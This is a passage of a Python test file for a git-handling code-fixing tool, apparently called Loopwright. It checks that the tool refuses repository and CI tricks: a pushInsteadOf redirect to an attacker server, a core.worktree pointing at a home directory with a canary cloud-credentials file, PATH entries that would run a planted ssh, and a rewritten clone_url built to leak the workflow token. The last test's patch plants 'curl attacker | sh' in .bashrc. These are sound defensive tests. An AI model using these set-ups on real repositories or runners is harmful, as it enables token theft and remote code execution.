    of a directory a `.git` file points to), is refused before any request: nothing is
    pushed or fetched, and neither server sees a request."""
    from loopwright.github.gitops import (
        GitError,
        clone_at,
        commit_patch,
        push_branch,
        remote_branch,
    )
    from tests.conftest import git
    from tests.fakes.git_server import GitServer

    source = tmp_path / "source"
    write(source / "app.py", "x = 1\n")
    init_repo(source)
    sha = git("rev-parse", "HEAD", cwd=source).strip()
    (tmp_path / "srv").mkdir()
    (tmp_path / "evil").mkdir()
    with (
        GitServer(tmp_path / "srv", token=REDGIT_TOKEN) as server,
        GitServer(tmp_path / "evil", token="ghs_ATTACKERBAIT000000000000") as attacker,
    ):
        server.create_repo("octo/app", source)
        attacker.create_repo("octo/app", source)
        url = server.repo_url("octo/app")
        tree = clone_at(url, sha, tmp_path / "clone", REDGIT_TOKEN)
        patch = "--- a/app.py\n+++ b/app.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n"
        commit_patch(tree, "diff --git a/app.py b/app.py\n" + patch, "Fix", "m1")
        plant(tree, f'[url "{attacker.url}/"]\n\tpushInsteadOf = {server.url}/\n')
        before = len(server.requests)
        with pytest.raises(GitError, match=r"sets url\..*pushinsteadof in .*never writes"):
            push_branch(tree, "loopwright/fix-9", REDGIT_TOKEN, replace=None, url=url)
        with pytest.raises(GitError, match="never writes"):
            remote_branch(tree, "loopwright/fix-9", sha, REDGIT_TOKEN, url=url)
        assert attacker.requests == [] and len(server.requests) == before
        assert (
            git("for-each-ref", cwd=tmp_path / "evil" / "octo" / "app.git").count(
                "loopwright/fix-9"
            )
            == 0
        )


def test_snapshot_of_a_repo_whose_core_worktree_names_another_repository_is_refused_security_35(
    tmp_path: Path,
) -> None:
    """SECURITY 35: the `.git/config` of the directory the user named (a tarball's) sets
    `core.worktree` to another repository, such as a home directory kept in git. Git would
    list and the snapshot copy that directory's files; it is refused with what to fix, and
    a linked worktree (`git worktree add`, a `.git` file) still snapshots as before."""
    from loopwright.sandbox.workspace import WorkspaceError, git, snapshot
    from tests.conftest import git as test_git

    home = tmp_path / "home"
    write(home / ".aws" / "credentials", "CANARY-CLOUD-KEY\n")
    init_repo(home)
    repo = tmp_path / "download"
    write(repo / "app.py", "x = 1\n")
    init_repo(repo)
    test_git("config", "core.worktree", str(home), cwd=repo)
    with pytest.raises(WorkspaceError, match=r"sets its work tree to .*core\.worktree"):
        snapshot(repo, tmp_path / "base")
    assert not (tmp_path / "base").exists()

    test_git("config", "--unset", "core.worktree", cwd=repo)
    test_git("worktree", "add", "-q", str(tmp_path / "linked"), cwd=repo)
    snapshot(tmp_path / "linked", tmp_path / "linked-base")
    assert git(["ls-files"], tmp_path / "linked-base").split() == ["app.py"]


def test_snapshot_skips_names_git_treats_as_a_git_directory_security_35(
    tmp_path: Path,
) -> None:
    """SECURITY 35: untracked `.git /`, `.GIT./`, `git~1/` and `.git::$INDEX_ALLOCATION/`
    directories in the user's tree (names git treats as `.git` on some file systems and
    refuses to add) are left out like `.git` itself, and the snapshot still works."""
    from loopwright.sandbox.workspace import git, snapshot

    repo = tmp_path / "user"
    write(repo / "app.py", "x = 1\n")
    init_repo(repo)
    for name in (".git ", ".GIT.", "git~1", ".git::$INDEX_ALLOCATION"):
        write(repo / name / "hooks" / "post-commit", "#!/bin/sh\nexit 1\n")
    snapshot(repo, tmp_path / "base")
    assert git(["ls-files"], tmp_path / "base").split() == ["app.py"]
    assert sorted(p.name for p in (tmp_path / "base").iterdir()) == [".git", "app.py"]


@pytest.mark.parametrize("path", [":{path}", "{path}:", ".:{path}", "{path}::bin"])
def test_a_program_in_the_tree_never_runs_through_a_relative_path_entry_security_35(
    tmp_path: Path, marker_dir: Path, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    """SECURITY 35: the operator's PATH has an empty or relative entry (a stray colon, `.`),
    which a shell reads as the working directory. Host git runs `ssh` for an ssh remote
    from a tree that carries an executable `ssh`; it must be the system's, never the tree's."""
    from loopwright import git as host_git

    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "bin").mkdir()
    for fake in (tree / "ssh", tree / "bin" / "ssh"):
        write(fake, f"#!/bin/sh\ntouch {marker_dir}/ssh-from-the-tree\n").chmod(0o755)
    from tests.conftest import git

    git("init", "-q", cwd=tree)
    # The system's directories come after the tree's where the entry leads.
    monkeypatch.setenv("PATH", path.format(path=os.environ["PATH"]))
    url = "ssh://git@127.0.0.1:1/octo/app.git"
    proc = host_git.run(["ls-remote", url], tree, remote=url)
    assert proc.returncode != 0
    assert sorted(p.name for p in marker_dir.iterdir()) == []
    entries = host_git.environment(tmp_path / "home")["PATH"].split(os.pathsep)
    assert entries and all(os.path.isabs(entry) for entry in entries)


def test_action_token_never_follows_a_clone_url_rewritten_in_the_event_file_security_36(
    world: Any,  # noqa: F811 - the Action's world fixture, imported above
) -> None:
    """SECURITY 36, Action mode: the test step that ran before Loopwright in the same job
    runs the pull request's code, and the event file (`GITHUB_EVENT_PATH`) is a file in the
    runner's temporary directory it can rewrite. It points `repository.clone_url` at a git
    server of the test's own on 127.0.0.1: that server must never see the workflow's token."""
    from tests.conftest import git
    from tests.fakes.git_server import GitServer

    (world.tmp / "evil").mkdir()
    with GitServer(world.tmp / "evil", token="ghs_ATTACKERBAIT000000000000") as attacker:
        workspace = world.tmp / "checkout"
        git("clone", "-q", "-b", "feature", world.git.repo_url(HOSTGIT_ACTION_REPO),
            str(workspace), cwd=world.tmp)  # fmt: skip
        attacker.create_repo(HOSTGIT_ACTION_REPO, workspace)
        sha = git("rev-parse", "HEAD", cwd=workspace).strip()
        payload = world.repository(hostgit_action_example("workflow_dispatch", None))
        payload["repository"]["clone_url"] = attacker.repo_url(HOSTGIT_ACTION_REPO)
        run = world.run(
            "workflow_dispatch",
            payload,
            workspace=workspace,
            sha=sha,
            ref="refs/heads/feature",
            inputs={"INPUT_DELIVER": "commit", "INPUT_TEST_COMMAND": "python -m pytest -q"},
        )
        leaked = [r for r in attacker.requests if world.token in _redgit_password(r)]
        assert leaked == [] and attacker.requests == []
        assert run.exit_code == 0, run.stderr
        assert run.outputs["status"] == "verified"
        pushed = git("show", "feature", "--format=%ae%n%P", cwd=world.bare)
        assert FIX_NEW.strip() in pushed and sha in pushed


def _redgit_password(request: dict[str, Any]) -> str:
    import base64

    header = request.get("authorization") or ""
    if not header.startswith("Basic "):
        return ""
    return base64.b64decode(header[6:]).decode(errors="replace").partition(":")[2]


def test_deliver_never_patches_the_directory_core_worktree_names_security_35(
    tmp_path: Path,
) -> None:
    """SECURITY 35, CLI deliver: the user's repository (at `home/proj`) sets `core.worktree`
    to `home`. The patch is refused instead of landing in `home`, and nothing is written."""
    from loopwright.sandbox.workspace import WorkspaceError, apply_patch
    from tests.conftest import git as test_git

    repo = tmp_path / "home" / "proj"
    write(repo / "app.py", "x = 1\n")
    init_repo(repo)
    test_git("config", "core.worktree", str(tmp_path / "home"), cwd=repo)
    before = tree_digest(tmp_path / "home")
    with pytest.raises(WorkspaceError, match=r"core\.worktree"):
        apply_patch(repo, redgit_new(".bashrc", "curl attacker | sh"))
    assert tree_digest(tmp_path / "home") == before
